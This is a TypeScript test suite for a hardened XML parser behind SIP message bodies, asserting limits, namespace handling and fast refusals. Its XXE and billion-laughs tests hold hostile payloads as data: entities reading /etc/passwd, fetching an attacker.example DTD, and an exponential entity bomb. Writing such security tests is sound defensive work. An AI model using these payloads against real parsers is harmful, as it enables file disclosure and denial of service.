/**
 * The bounded XML reader every SIP body parser stands on: the tree it builds, namespaces, and the refusals
 * (DOCTYPE/XXE/billion laughs, size, depth, element count, malformed input) — each fast and with a reason.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  attr, childNamed, childText, childrenNamed, descendantsNamed, escapeXml, hasNonXmlChar, parseUnsigned, parseXml, parseXsBoolean, XML_NS,
} from '../../src/sip/bodies/safe-xml.js';

function rejects(text: string, pattern: RegExp, limits?: Parameters<typeof parseXml>[1]): void {
  const started = performance.now();
  const r = parseXml(text, limits);
  const ms = performance.now() - started;
  assert.equal(r.ok, false, 'expected a refusal');
  if (!r.ok) assert.match(r.error, pattern);
  assert.ok(ms < 500, `refusal took ${ms.toFixed(1)} ms`);
}

test('builds a namespace-aware tree with attributes by local name and qualified ones in Clark notation', () => {
  const r = parseXml('\uFEFF<?xml version="1.0"?><p:a xmlns:p="urn:p" xmlns="urn:d" id="1" p:id="2" xml:lang="en">'
    + 'one <b>x</b> two<![CDATA[<raw>]]><p:c>&amp;&#65;&#x42;&lt;</p:c><b/></p:a>');
  assert.ok(r.ok, r.ok ? '' : r.error);
  const root = r.root;
  assert.deepEqual([root.ns, root.local], ['urn:p', 'a']);
  assert.equal(attr(root, 'id'), '1');
  assert.equal(attr(root, 'id', 'urn:p'), '2');
  assert.equal(attr(root, 'lang', XML_NS), 'en');
  assert.equal(attr(root, 'xmlns'), undefined, 'namespace declarations are not attributes');
  assert.deepEqual(Object.keys(root.attrs).sort(), ['id', '{http://www.w3.org/XML/1998/namespace}lang', '{urn:p}id']);
  assert.equal(root.text, 'one  two<raw>');
  assert.equal(childrenNamed(root, 'urn:d', 'b').length, 2);
  assert.equal(childText(root, 'urn:p', 'c'), '&AB<');
  assert.equal(childNamed(root, 'urn:p', 'b'), undefined, 'namespace must match, not only the local name');
  assert.equal(childText(root, 'urn:d', 'missing'), undefined);
});

test('descendantsNamed finds nested elements in document order', () => {
  const r = parseXml('<a xmlns="urn:x"><n>1</n><b><n>2</n><c><n>3</n></c></b></a>');
  assert.ok(r.ok);
  assert.deepEqual(descendantsNamed(r.root, 'urn:x', 'n').map((n) => n.text), ['1', '2', '3']);
});

test('attributes named like Object.prototype members are plain data', () => {
  const r = parseXml('<a __proto__="x" constructor="y"/>');
  assert.ok(r.ok);
  assert.equal(attr(r.root, '__proto__'), 'x');
  assert.equal(attr(r.root, 'constructor'), 'y');
  assert.equal(attr(r.root, 'toString'), undefined);
});

test('XXE: an external entity declaration is refused before anything is read', () => {
  rejects('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', /DOCTYPE is not allowed/);
  rejects('<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd"><x/>', /DOCTYPE/);
  rejects('<!-- hidden --><?pi x?>\n<!DOCTYPE presence [<!ENTITY % p SYSTEM "http://x/">%p;]><presence/>', /DOCTYPE/);
});

test('billion laughs is refused quickly and never expanded', () => {
  const defs = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) defs.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  rejects(`<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${defs.join('\n')}\n]>\n<lolz>&lol9;</lolz>`, /DOCTYPE/);
});

test('entities other than the five predefined ones are errors, not silently empty', () => {
  rejects('<x>&nbsp;</x>', /undefined entity/);
  rejects('<x a="&e;"/>', /entity/);
});

test('size limit counts UTF-8 bytes, not characters', () => {
  const euro = `<a>${'€'.repeat(30_000)}</a>`; // 30 007 characters, 90 007 bytes
  rejects(euro, /larger than 65536 bytes/);
  assert.ok(parseXml(euro, { maxBytes: 100_000 }).ok);
  rejects(`<a>${'x'.repeat(70_000)}</a>`, /larger than/);
});

test('depth limit: 32 levels pass, 33 are refused; a deep hostile body fails fast', () => {
  const nest = (n: number): string => '<a>'.repeat(n) + '</a>'.repeat(n);
  assert.ok(parseXml(nest(32)).ok);
  rejects(nest(33), /deeper than 32/);
  rejects('<a>'.repeat(21_000), /deeper than 32/);
  rejects(nest(5), /deeper than 4/, { maxDepth: 4 });
});

test('element count limit', () => {
  const flat = (n: number): string => `<r>${'<e/>'.repeat(n - 1)}</r>`;
  assert.ok(parseXml(flat(5000)).ok);
  rejects(flat(5001), /more than 5000 elements/);
  rejects(flat(11), /more than 10 elements/, { maxElements: 10 });
});

test('malformed documents give an error naming the problem', () => {
  rejects('', /root/);
  rejects('   ', /root/);
  rejects('<a><b></a>', /malformed XML/);
  rejects('<a>', /malformed XML/);
  rejects('<a/><b/>', /one root/);
  rejects('<p:a/>', /unbound namespace prefix/);
  rejects('<a x="1" x="2"/>', /malformed XML/);
  rejects('not xml at all', /malformed XML/);
  rejects('<a>\u0001</a>', /malformed XML/);
  assert.deepEqual(parseXml(42 as unknown as string), { ok: false, error: 'XML body is not text' });
});

test('escapeXml escapes the five special characters and drops what XML cannot carry', () => {
  assert.equal(escapeXml(`<a href="x">Tom & Jerry's</a>`), '&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&apos;s&lt;/a&gt;');
  assert.equal(escapeXml('a\u0000b\u0007c\td\ne\uFFFEf\uD800g😀'), 'abc&#9;d&#10;efg😀');
  assert.equal(hasNonXmlChar('ok\ttext 😀'), false);
  assert.equal(hasNonXmlChar('bell\u0007'), true);
  assert.equal(hasNonXmlChar('lone \uDC00'), true);
  // What escapeXml writes always reads back as the same text (after impossible characters are dropped).
  const text = 'x<&>"\'\u0001y]]>\r\n\t\rz';
  const r = parseXml(`<a b="${escapeXml(text)}">${escapeXml(text)}</a>`);
  assert.ok(r.ok);
  assert.equal(r.root.text, 'x<&>"\'y]]>\r\n\t\rz', 'line ends survive the parser\'s normalization');
  assert.equal(attr(r.root, 'b'), 'x<&>"\'y]]>\r\n\t\rz', 'and attribute-value normalization');
});

test('xs:boolean and unsigned integer readers', () => {
  assert.deepEqual(['true', ' 1 ', 'false', '0', 'TRUE', 'yes', undefined].map(parseXsBoolean), [true, true, false, false, undefined, undefined, undefined]);
  assert.deepEqual(['0', ' 42 ', '+7', '-1', '1.5', '', '9999999999999999', undefined].map(parseUnsigned), [0, 42, 7, undefined, undefined, undefined, undefined, undefined]);
});
